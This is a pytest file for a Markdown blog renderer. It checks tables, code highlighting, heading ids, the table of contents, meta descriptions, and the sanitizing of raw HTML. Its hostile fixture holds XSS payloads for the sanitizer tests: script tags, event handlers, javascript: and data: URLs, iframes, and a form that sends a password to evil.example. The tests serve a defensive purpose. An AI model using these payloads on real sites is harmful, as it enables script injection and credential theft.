import re

import pytest

from tests.conftest import article_body, foreign_scripts, make_post, start_tags

pytestmark = pytest.mark.django_db

HOSTILE_BODY = """\
## 3行要約

- 表とコードと危険な HTML。

| モデル | パラメータ |
|---|---|
| Llama | 70B |

```python
def greet(name):
    return f"こんにちは {name}"
```

<script>alert(1)</script>

<img src=x onerror="alert(1)">

[x](javascript:alert(1))

<a href="javascript:alert(1)">js</a>

<iframe src="https://evil.example/"></iframe>

<object data="https://evil.example/x.swf"></object>

<embed src="https://evil.example/x.swf">

<form action="https://evil.example/steal"><input name="password"></form>

<style>body { display: none }</style>

<base href="https://evil.example/">

<meta http-equiv="refresh" content="0; url=https://evil.example/">

[データ](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">データ</a>

<p onclick="alert(1)">押してください</p>

末尾の段落。
"""

DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "form", "input", "style", "base"}


def page(client, post):
    response = client.get(f"/posts/{post.slug}/")
    assert response.status_code == 200
    return response.content.decode()


def meta_description(html):
    [content] = [attrs["content"] for tag, attrs in start_tags(html, "meta") if attrs.get("name") == "description"]
    return content


def test_a_github_table_and_fenced_code_render_with_highlighting(client):
    html = page(client, make_post(slug="hostile", body=HOSTILE_BODY))
    body = article_body(html)
    assert re.search(r"<table>\s*<thead>\s*<tr>\s*<th>モデル</th>\s*<th>パラメータ</th>", body)
    assert "<td>70B</td>" in body
    assert '<pre class="highlight"' in body
    assert '<span class="k">def</span>' in body
    assert '<span class="nf">greet</span>' in body


def test_dangerous_html_is_removed_from_the_article(client):
    html = page(client, make_post(slug="hostile", body=HOSTILE_BODY))

    tags = start_tags(html)
    assert DANGEROUS_TAGS.isdisjoint(tag for tag, _attrs in tags if tag != "script")
    assert "<script" not in article_body(html).lower()
    assert foreign_scripts(html) == []
    for tag, attrs in tags:
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert "alert(1)" not in value, (tag, name, value)
            if name in {"href", "src", "action", "data"}:
                assert not value.strip().lower().startswith(("javascript:", "data:", "vbscript:")), (tag, value)
    for word in ["onerror", "onclick", "<iframe", "<object", "<embed", "<form", "<style", "<base"]:
        assert word not in html, word
    body_tags = {tag for tag, _attrs in start_tags(article_body(html))}
    assert "meta" not in body_tags and "link" not in body_tags
    assert "押してください" in html and "末尾の段落。" in html


def test_text_inside_removed_elements_does_not_show_as_prose(client):
    html = page(client, make_post(slug="hostile", body=HOSTILE_BODY))
    body = article_body(html)
    assert "display: none" not in body
    assert "evil.example" not in body


def test_a_rawhtml_shortcode_is_accepted_and_its_content_sanitized(client):
    body = (
        "本文。\n\n"
        "{{< rawhtml >}}\n"
        '<div class="note">生の HTML</div>\n\n'
        "<script>alert(2)</script>\n"
        "{{< /rawhtml >}}\n\n"
        "続き。\n"
    )
    html = page(client, make_post(body=body))
    assert '<div class="note">生の HTML</div>' in article_body(html)
    assert "<script" not in article_body(html)
    assert foreign_scripts(html) == []
    assert "alert(2)" not in html
    assert "rawhtml" not in html
    assert "{{" not in html


def test_heading_ids_follow_hugo(client):
    html = page(client, make_post(body="## 3行要約\n\n- 要点。\n\n## Q1: Claude Codeとは\n\n答え。\n"))
    ids = [attrs.get("id") for tag, attrs in start_tags(article_body(html), "h2")]
    assert ids == ["3行要約", "q1-claude-codeとは"]


def test_repeated_headings_and_headings_with_code_get_hugos_ids(client):
    body = "## まとめ\n\nx\n\n## まとめ\n\ny\n\n## `llama.cpp` の使い方\n\n### GPT-4o と Claude 3.5 の比較\n"
    html = page(client, make_post(body=body))
    ids = [attrs.get("id") for tag, attrs in start_tags(article_body(html)) if tag in {"h2", "h3"}]
    assert ids == ["まとめ", "まとめ-1", "llamacpp-の使い方", "gpt-4o-と-claude-35-の比較"]


def test_the_table_of_contents_lists_second_and_third_level_headings(client):
    body = "## 概要\n\n本文。\n\n### 詳細その一\n\n本文。\n\n#### 細部\n\n本文。\n\n## まとめ\n\n本文。\n"
    html = page(client, make_post(body=body))
    toc = html[html.index('<details class="toc">') : html.index("</details>")]
    links = [(attrs["href"], attrs.get("class")) for tag, attrs in start_tags(toc, "a")]
    assert [href for href, _class in links] == ["#概要", "#詳細その一", "#まとめ"]
    assert "細部" not in toc
    for href, _class in links:
        assert f'id="{href[1:]}"' in article_body(html)


def test_a_blank_description_is_taken_from_the_first_list(client):
    body = "前置きの段落です。\n\n## 3行要約\n\n- 一つ目の要点\n- 二つ目の要点。\n\n## 本文\n\n- 別のリスト\n"
    html = page(client, make_post(body=body, description=""))
    assert meta_description(html) == "一つ目の要点。二つ目の要点。"


def test_a_long_derived_description_is_cut_to_about_120_characters(client):
    items = ["あ" * 50, "い" * 50, "う" * 50]
    html = page(client, make_post(body="\n".join(f"- {item}" for item in items) + "\n", description=""))
    description = meta_description(html)
    assert description.endswith("...")
    assert 100 <= len(description) <= 125
    assert description.startswith("あ" * 50)
    assert "う" * 50 not in description


def test_a_written_description_wins_over_the_derived_one(client):
    html = page(client, make_post(description="書き手の説明文。"))
    assert meta_description(html) == "書き手の説明文。"


def test_www_hosts_are_autolinked_but_file_names_are_not(client):
    html = page(client, make_post(body="詳しくは www.example.com と README.md を参照。\n"))
    hrefs = [attrs.get("href") for tag, attrs in start_tags(article_body(html), "a")]
    assert "http://www.example.com" in hrefs
    assert not any("README" in (href or "") for href in hrefs)
    assert "README.md" in article_body(html)


def test_strikethrough_renders_as_s(client):
    html = page(client, make_post(body="これは ~~古い情報~~ です。\n"))
    assert "<s>古い情報</s>" in article_body(html)


def test_raw_html_loses_fixed_positioning_but_keeps_harmless_styles(client):
    body = '<div style="position:fixed;top:0;left:0;color:red">重なる広告</div>\n'
    html = page(client, make_post(body=body))
    [div] = [attrs for tag, attrs in start_tags(article_body(html), "div") if attrs.get("style") is not None]
    assert "position" not in div["style"]
    assert "color:red" in div["style"].replace(" ", "")
    assert "重なる広告" in html
